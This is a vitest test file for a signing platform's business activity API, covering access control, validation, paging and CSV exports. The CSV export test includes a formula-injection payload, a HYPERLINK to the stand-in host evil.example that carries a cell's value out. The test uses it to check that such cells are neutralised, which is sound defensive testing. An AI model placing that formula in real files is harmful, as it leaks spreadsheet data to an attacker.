import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { accountActivityPageSchema, identificationActivityPageSchema, signatureActivityPageSchema } from "@paraph/contracts";
import { createSignedInUser, STRONG_PASSWORD } from "../../test-support/factories.ts";
import { createTestApp, type TestApp } from "../../test-support/test-app.ts";
import { createBusinessCast } from "../businesses/test-helpers.ts";
import { insertIdentification } from "../identification/index.ts";
import { provisionTestSeal } from "../seals/test-helpers.ts";
import { createOpenRequest, parseCsv, recordSignatureOf } from "./test-helpers.ts";
import { csvStream } from "../../platform/csv/csv-writer.ts";
import { inBatches } from "./export-batches.ts";
import { SIGNATURE_CSV_HEADER, signatureCsvRow } from "./presenter.ts";
import { findSignatureBatch } from "./repository.ts";

let testApp: TestApp;
beforeAll(async () => {
  testApp = await createTestApp();
});
afterAll(async () => testApp.close());

const DAY_MS = 24 * 60 * 60 * 1000;
const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

async function get(token: string | undefined, url: string, headers: Record<string, string> = {}) {
  return testApp.request({ method: "GET", url: `/api${url}`, ...(token ? { token } : {}), headers });
}

describe("business activity: who may read it", () => {
  it("is the admins': anonymous and guest links 401, outsiders 404, members 403 business_admin_required", async () => {
    const { business, admin, member, outsider } = await createBusinessCast(testApp);
    const otherAdmin = (await createBusinessCast(testApp)).admin;
    const base = `/v2/businesses/${business.id}/activities`;
    const urls = [`${base}/accounts`, `${base}/signatures`, `${base}/identifications`, `${base}/signatures/export`, `${base}/signatures/export?group_by=users`, `${base}/identifications/export`];
    const guestBasic = `Basic ${Buffer.from(`${crypto.randomUUID()}:${crypto.randomUUID()}`).toString("base64")}`;
    for (const url of urls) {
      expect((await get(undefined, url)).json()).toMatchObject({ code: "unauthenticated" });
      expect((await get(undefined, url, { authorization: guestBasic })).statusCode).toBe(401);
      for (const stranger of [outsider, otherAdmin]) {
        const refused = await get(stranger.token, url);
        expect(refused.statusCode, url).toBe(404);
        expect(refused.body).not.toContain(business.name);
      }
      const asMember = await get(member.token, url);
      expect(asMember.statusCode, url).toBe(403);
      expect(asMember.json()).toMatchObject({ code: "business_admin_required" });
      expect((await get(admin.token, url)).statusCode, url).toBe(200);
    }
  });
});

describe("business activity: validation", () => {
  it("refuses other page sizes, unknown sort fields, reversed ranges and pages past the depth limit", async () => {
    const { business, admin } = await createBusinessCast(testApp);
    const base = `/v2/businesses/${business.id}/activities`;
    const refusals = [
      `${base}/signatures?size=30`,
      `${base}/signatures?size=0`,
      `${base}/accounts?sort=password_hash`,
      `${base}/signatures?sort=signedAt,sideways`,
      `${base}/identifications?sort=signedAt`,
      `${base}/signatures?start_date=2026-11-10&end_date=2026-11-09`,
      `${base}/signatures?start_date=2026-02-30`,
      `${base}/signatures?page=401&size=25`,
      `${base}/signatures/export?group_by=departments`,
      `${base}/identifications/export?start_date=2026-11-10&end_date=2026-11-01`,
    ];
    for (const url of refusals) {
      const response = await get(admin.token, url);
      expect(response.statusCode, url).toBe(400);
      expect(response.json(), url).toMatchObject({ code: "validation_failed" });
    }
    for (const size of [25, 50, 100]) expect((await get(admin.token, `${base}/signatures?size=${size}`)).statusCode).toBe(200);
    expect((await get(admin.token, `${base}/signatures?page=400&size=25`)).statusCode).toBe(200);
  });
});

describe("business activity: signatures", () => {
  it("lists the members' signatures of the range, seal or personal, and keeps those of a member who left", async () => {
    const { business, admin, member } = await createBusinessCast(testApp);
    const stranger = await createSignedInUser(testApp, { firstName: "Sam", lastName: "Stranger" });
    const seal = await provisionTestSeal(testApp, business.id, "activity-seal", "Activity Seal");
    const base = `/v2/businesses/${business.id}/activities`;

    const startDay = testApp.clock.now();
    const first = await createOpenRequest(testApp, admin, "Lease contract", [admin, stranger, member]);
    await recordSignatureOf(testApp, admin, first);
    await recordSignatureOf(testApp, stranger, first);
    // Past midnight UTC (the sessions last 24 hours, so not a whole day on).
    testApp.clock.advance(16 * 60 * 60 * 1000);
    await recordSignatureOf(testApp, member, first, { quality: "aes", legislation: "zertes", sealAccountName: seal.account_name });
    testApp.clock.advance(60_000);
    const second = await createOpenRequest(testApp, member, "Offer", [member]);
    await recordSignatureOf(testApp, member, second, { quality: "qes", legislation: "eidas" });

    expect(new Date(startDay.getTime() + 16 * 60 * 60 * 1000).toISOString().slice(0, 10)).not.toBe(startDay.toISOString().slice(0, 10));
    const page = signatureActivityPageSchema.parse((await get(admin.token, `${base}/signatures`)).json());
    expect(page.items.map((item) => [item.title, item.member.lastName, item.quality, item.kind])).toEqual([
      ["Offer", "Member", "qes", "personal"],
      ["Lease contract", "Member", "aes", "seal"],
      ["Lease contract", "Admin", "ses", "personal"],
    ]);
    expect(page.items[1]).toMatchObject({ sealAccountName: "activity-seal", legislation: "zertes", signatureRequestId: first });
    expect(page).toMatchObject({ total: 3, totalIsCapped: false, page: 1, size: 25 });

    const ascending = signatureActivityPageSchema.parse((await get(admin.token, `${base}/signatures?sort=signedAt,asc&size=25`)).json());
    expect(ascending.items.map((item) => item.quality)).toEqual(["ses", "aes", "qes"]);
    const byQuality = signatureActivityPageSchema.parse((await get(admin.token, `${base}/signatures?sort=quality`)).json());
    expect(byQuality.items.map((item) => item.quality)).toEqual(["aes", "qes", "ses"]);

    // Whole UTC days, both ends included.
    const day = (offset: number) => new Date(startDay.getTime() + offset * DAY_MS).toISOString().slice(0, 10);
    const firstDay = signatureActivityPageSchema.parse((await get(admin.token, `${base}/signatures?start_date=${day(0)}&end_date=${day(0)}`)).json());
    expect(firstDay.items.map((item) => item.member.lastName)).toEqual(["Admin"]);
    expect(firstDay.range).toEqual({ startDate: day(0), endDate: day(0) });
    const laterDays = signatureActivityPageSchema.parse((await get(admin.token, `${base}/signatures?start_date=${day(1)}`)).json());
    expect(laterDays.items).toHaveLength(2);

    const accounts = accountActivityPageSchema.parse((await get(admin.token, `${base}/accounts?sort=signatureCount,desc`)).json());
    expect(accounts.items.map((item) => [item.lastName, item.role, item.signatureCount])).toEqual([
      ["Member", "member", 2],
      ["Admin", "admin", 1],
    ]);
    expect(accounts.items[1]?.lastLoginAt).not.toBeNull();
    const accountsOfFirstDay = accountActivityPageSchema.parse((await get(admin.token, `${base}/accounts?end_date=${day(0)}&sort=name`)).json());
    expect(accountsOfFirstDay.items.map((item) => [item.lastName, item.signatureCount])).toEqual([
      ["Admin", 1],
      ["Member", 0],
    ]);

    // The signature was made for the business: it stays when the member leaves.
    const removed = await testApp.request({ method: "POST", url: `/api/v1/businesses/${business.id}/remove-members`, token: admin.token, payload: { user_ids: [member.user.id] } });
    expect(removed.statusCode, removed.body).toBe(200);
    const afterLeaving = signatureActivityPageSchema.parse((await get(admin.token, `${base}/signatures`)).json());
    expect(afterLeaving.total).toBe(3);
    const accountsAfter = accountActivityPageSchema.parse((await get(admin.token, `${base}/accounts`)).json());
    expect(accountsAfter.items.map((item) => item.lastName)).toEqual(["Admin"]);

    // Nor when the account is deleted: the signature stays, without the person's name or address.
    const deleted = await testApp.request({ method: "POST", url: "/api/v1/user/delete", token: member.token, payload: { password: STRONG_PASSWORD } });
    expect(deleted.statusCode, deleted.body).toBeLessThan(300);
    const afterDeletion = signatureActivityPageSchema.parse((await get(admin.token, `${base}/signatures`)).json());
    expect(afterDeletion.items.map((item) => item.member)).toEqual([
      { userId: member.user.id, firstName: "", lastName: "", email: "", isDeleted: true },
      { userId: member.user.id, firstName: "", lastName: "", email: "", isDeleted: true },
      { userId: admin.user.id, firstName: "Ada", lastName: "Admin", email: admin.user.email, isDeleted: false },
    ]);
  });

  // Thirty real signatures (pages hold 25 at least): 13 s alone, more beside another suite.
  it("pages through the signatures without gaps or repeats", { timeout: 90_000 }, async () => {
    const { business, admin } = await createBusinessCast(testApp);
    const signers = [admin];
    const ids: string[] = [];
    for (let index = 0; index < 30; index += 1) {
      const id = await createOpenRequest(testApp, admin, `Request ${index}`, signers);
      await recordSignatureOf(testApp, admin, id);
      ids.push(id);
    }
    const base = `/v2/businesses/${business.id}/activities/signatures?size=25&sort=signedAt,asc`;
    const one = signatureActivityPageSchema.parse((await get(admin.token, `${base}&page=1`)).json());
    const two = signatureActivityPageSchema.parse((await get(admin.token, `${base}&page=2`)).json());
    expect(one.items).toHaveLength(25);
    expect(two.items).toHaveLength(5);
    expect([...one.items, ...two.items].map((item) => item.signatureRequestId)).toEqual(ids);
    expect(two.total).toBe(30);

    // Newest first and by quality: each page keeps the order of the whole list.
    const pagesOf = async (sort: string) => {
      const at = async (query: string) => signatureActivityPageSchema.parse((await get(admin.token, `/v2/businesses/${business.id}/activities/signatures?sort=${sort}&${query}`)).json());
      const whole = await at("size=50");
      const paged = [...(await at("size=25&page=1")).items, ...(await at("size=25&page=2")).items];
      return { whole: whole.items.map((item) => item.id), paged: paged.map((item) => item.id) };
    };
    const newestFirst = await pagesOf("signedAt,desc");
    expect(newestFirst.paged).toEqual(newestFirst.whole);
    expect(newestFirst.whole).toHaveLength(30);
    const byQuality = await pagesOf("quality,desc");
    expect(byQuality.paged).toEqual(byQuality.whole);
    expect([...byQuality.whole].reverse()).toEqual((await pagesOf("quality,asc")).whole);
  });
});

describe("business activity: identifications", () => {
  it("lists the members' identifications of the range with method, status and time", async () => {
    const { business, admin, member, outsider } = await createBusinessCast(testApp);
    const now = testApp.clock.now();
    const row = (userId: string, status: "success" | "inprogress", method: "video" | "autoident", legislation: "eidas" | "zertes") => ({
      id: crypto.randomUUID(),
      user_id: userId,
      signer_id: null,
      provider: "srs" as const,
      method,
      legislation,
      status,
      is_demo: true,
      signature_request_id: null,
      created_at: now,
      updated_at: now,
      completed_at: status === "success" ? now : null,
    });
    await insertIdentification(testApp.context.db, row(member.user.id, "success", "video", "eidas"));
    testApp.clock.advance(1000);
    await insertIdentification(testApp.context.db, { ...row(admin.user.id, "inprogress", "autoident", "zertes"), created_at: testApp.clock.now() });
    await insertIdentification(testApp.context.db, row(outsider.user.id, "success", "video", "eidas"));

    const base = `/v2/businesses/${business.id}/activities/identifications`;
    const page = identificationActivityPageSchema.parse((await get(admin.token, base)).json());
    expect(page.items.map((item) => [item.member.lastName, item.method, item.status, item.legislation])).toEqual([
      ["Admin", "autoident", "inprogress", "zertes"],
      ["Member", "video", "success", "eidas"],
    ]);
    expect(page.items[1]?.completedAt).not.toBeNull();
    const byStatus = identificationActivityPageSchema.parse((await get(admin.token, `${base}?sort=status,desc`)).json());
    expect(byStatus.items.map((item) => item.status)).toEqual(["success", "inprogress"]);

    const csv = await get(admin.token, `/v2/businesses/${business.id}/activities/identifications/export`);
    expect(csv.statusCode).toBe(200);
    const rows = parseCsv(csv.body.replace(/^\uFEFF/, ""));
    expect(rows[0]?.[0]).toBe("Started at (UTC)");
    expect(rows.slice(1).map((cells) => [cells[4], cells[5], cells[8]])).toEqual([
      [member.user.email, "video", "success"],
      [admin.user.email, "autoident", "inprogress"],
    ]);
    expect(csv.headers["content-disposition"]).toMatch(/filename="identification_usage_\d{8}_\d{8}\.csv"/);
  });
});

describe("business activity: CSV exports", () => {
  it("streams the signatures as CSV a spreadsheet opens safely, named as spec §9 says", async () => {
    const { business, admin, member } = await createBusinessCast(testApp);
    const startDay = testApp.clock.now().toISOString().slice(0, 10);
    const hostile = await createOpenRequest(testApp, admin, HOSTILE_TITLE, [member]);
    await recordSignatureOf(testApp, member, hostile);
    const plain = await createOpenRequest(testApp, admin, 'Quotes "and", commas', [admin]);
    await recordSignatureOf(testApp, admin, plain, { quality: "aes", legislation: "eidas" });
    await testApp.request({ method: "PUT", url: "/api/v1/user", token: member.token, payload: { firstName: "@Mallory", lastName: "-Minus" } });
    const base = `/api/v2/businesses/${business.id}/activities/signatures/export`;
    const range = `start_date=${startDay}&end_date=${startDay}`;

    const response = await testApp.request({ method: "GET", url: `${base}?${range}`, token: admin.token });
    expect(response.statusCode).toBe(200);
    expect(response.headers["content-type"]).toBe("text/csv; charset=utf-8");
    const compact = startDay.replaceAll("-", "");
    expect(response.headers["content-disposition"]).toContain(`filename="signature_usage_${compact}_${compact}.csv"`);
    expect([...response.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(response.body).toContain("\r\n");

    const rows = parseCsv(response.rawPayload.subarray(3).toString("utf8"));
    expect(rows[0]).toEqual(["Signed at (UTC)", "First name", "Last name", "E-mail", "Request", "Request id", "Quality", "Legislation", "Kind", "Seal"]);
    expect(rows).toHaveLength(3);
    const [hostileRow, plainRow] = rows.slice(1);
    // The formula arrives as text: a single quote in front, the rest intact.
    expect(hostileRow?.[4]).toBe(`'${HOSTILE_TITLE}`);
    expect(hostileRow?.[5]).toBe(hostile);
    expect(plainRow?.slice(4, 9)).toEqual(['Quotes "and", commas', plain, "AES", "eIDAS", "Personal"]);
    for (const cells of rows) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.every((cells) => cells.length === rows[0]?.length)).toBe(true);

    const byMember = await testApp.request({ method: "GET", url: `${base}?${range}&group_by=users`, token: admin.token });
    expect(byMember.headers["content-disposition"]).toContain(`filename="signature_usage_${compact}_${compact}.csv"`);
    const memberRows = parseCsv(byMember.rawPayload.subarray(3).toString("utf8"));
    expect(memberRows[0]).toEqual(["First name", "Last name", "E-mail", "SES", "AES", "QES", "With a seal", "Total"]);
    expect(memberRows).toHaveLength(3);
    expect(memberRows.find((cells) => cells[2] === admin.user.email)?.slice(3)).toEqual(["0", "1", "0", "0", "1"]);
    expect(memberRows.find((cells) => cells[2] === member.user.email)).toEqual(["'@Mallory", "'-Minus", member.user.email, "1", "0", "0", "0", "1"]);

    const byCostCentre = await testApp.request({ method: "GET", url: `${base}?${range}&group_by=cost_centers`, token: admin.token });
    expect(byCostCentre.headers["content-disposition"]).toContain(`filename="cost_centre_report_${compact}_${compact}.csv"`);
    expect(parseCsv(byCostCentre.rawPayload.subarray(3).toString("utf8"))).toEqual([
      ["Cost centre", "Members", "SES", "AES", "QES", "With a seal", "Total"],
      ["—", "2", "1", "1", "0", "0", "2"],
    ]);
  });

  it("exports more rows than one batch holds, in order, each once", async () => {
    const { business, admin } = await createBusinessCast(testApp);
    const requestId = await createOpenRequest(testApp, admin, "Bulk", [admin]);
    const signedAt = testApp.clock.now();
    // Rows as the trigger writes them; 12 001 spans three batches of the export.
    const count = 12_001;
    for (let start = 0; start < count; start += 2000) {
      const rows = Array.from({ length: Math.min(2000, count - start) }, (_, offset) => ({
        id: crypto.randomUUID(),
        business_id: business.id,
        user_id: admin.user.id,
        signature_request_id: requestId,
        title: `Bulk ${start + offset}`,
        quality: "ses",
        legislation: null,
        seal_account_name: null,
        signed_at: new Date(signedAt.getTime() + Math.floor((start + offset) / 3) * 1000),
      }));
      await testApp.context.db.insertInto("business_signature_activities").values(rows).execute();
    }
    const response = await testApp.request({ method: "GET", url: `/api/v2/businesses/${business.id}/activities/signatures/export`, token: admin.token });
    const rows = parseCsv(response.rawPayload.subarray(3).toString("utf8")).slice(1);
    expect(rows).toHaveLength(count);
    const times = rows.map((cells) => cells[0] ?? "");
    expect([...times].sort()).toEqual(times);
    expect(new Set(rows.map((cells) => cells[4])).size).toBe(count);
  });

  it("sends each row once across batches when times carry microseconds, as signing times do", async () => {
    const { business, admin } = await createBusinessCast(testApp);
    const requestId = await createOpenRequest(testApp, admin, "Micro", [admin]);
    // 5 001 rows 1.001 ms apart: every batch boundary falls between two times a Date cannot tell
    // apart from their millisecond (the row after the boundary would be sent again).
    const count = 5_001;
    await sql`
      insert into business_signature_activities (id, business_id, user_id, signature_request_id, title, quality, legislation, seal_account_name, signed_at)
      select gen_random_uuid(), ${business.id}, ${admin.user.id}, ${requestId}, 'Micro ' || g, 'ses', null, null,
        ${testApp.clock.now()}::timestamptz + g * interval '1001 microseconds' + interval '123 microseconds'
      from generate_series(1, ${count}) as g
    `.execute(testApp.context.db);
    const response = await testApp.request({ method: "GET", url: `/api/v2/businesses/${business.id}/activities/signatures/export`, token: admin.token });
    const rows = parseCsv(response.rawPayload.subarray(3).toString("utf8")).slice(1);
    expect(rows).toHaveLength(count);
    expect(new Set(rows.map((cells) => cells[4])).size).toBe(count);
    // The time as the list shows it (toISOString of the row's Date), written by the database.
    const list = await get(admin.token, `/v2/businesses/${business.id}/activities/signatures?size=25&sort=signedAt,asc`);
    const firstListed = (list.json() as { items: { signedAt: string; title: string }[] }).items[0];
    expect(rows[0]?.[0]).toBe(firstListed?.signedAt);
    expect(rows[0]?.[4]).toBe(firstListed?.title);
  });

  it("writes the same file from the database's COPY on PostgreSQL as the presenters write from rows", async () => {
    // PostgreSQL streams the export as COPY's bytes; PGlite (no COPY) reads batches of rows.
    expect(Boolean(testApp.context.copyOut)).toBe(testApp.database.kind === "postgres");
    const { business, admin, member } = await createBusinessCast(testApp);
    const requestId = await createOpenRequest(testApp, admin, "Edge cases", [admin]);
    const at = testApp.clock.now();
    const edge = (offset: number, values: { title: string; quality: string; legislation: string | null; seal: string | null; user: string }) => ({
      id: crypto.randomUUID(),
      business_id: business.id,
      user_id: values.user,
      signature_request_id: requestId,
      title: values.title,
      quality: values.quality,
      legislation: values.legislation,
      seal_account_name: values.seal,
      signed_at: new Date(at.getTime() + offset * 1000),
    });
    await testApp.context.db
      .insertInto("business_signature_activities")
      .values([
        edge(0, { title: "Line one\nline two, \"quoted\"", quality: "aesMinimal", legislation: "zertes", seal: "muster-seal", user: admin.user.id }),
        edge(1, { title: "+41 44 000 00 00", quality: "qes", legislation: "eidas", seal: "", user: member.user.id }),
        edge(2, { title: "\tTabbed", quality: "unknown-level", legislation: "-other", seal: "@seal", user: admin.user.id }),
        edge(3, { title: "Ünïcödé — ✓", quality: "ses", legislation: null, seal: null, user: member.user.id }),
      ])
      .execute();
    // A signer whose account is gone: the row keeps the signature without the person.
    await sql`update business_signature_activities set user_id = ${crypto.randomUUID()} where user_id = ${member.user.id} and business_id = ${business.id}`.execute(testApp.context.db);

    const day = at.toISOString().slice(0, 10);
    const response = await testApp.request({
      method: "GET",
      url: `/api/v2/businesses/${business.id}/activities/signatures/export?start_date=${day}&end_date=${day}`,
      token: admin.token,
    });
    const window = { from: new Date(`${day}T00:00:00Z`), to: new Date(new Date(`${day}T00:00:00Z`).getTime() + DAY_MS) };
    const batches = inBatches((after: string | undefined) => findSignatureBatch(testApp.context.db, business.id, window, after, 5000), (row) => row.id, 5000);
    const chunks: Buffer[] = [];
    for await (const chunk of csvStream(SIGNATURE_CSV_HEADER, batches, signatureCsvRow)) chunks.push(chunk as Buffer);
    const expected = Buffer.concat(chunks);
    expect(response.rawPayload.toString("utf8")).toBe(expected.toString("utf8"));
    expect(parseCsv(expected.subarray(3).toString("utf8"))).toHaveLength(5);
  });
});
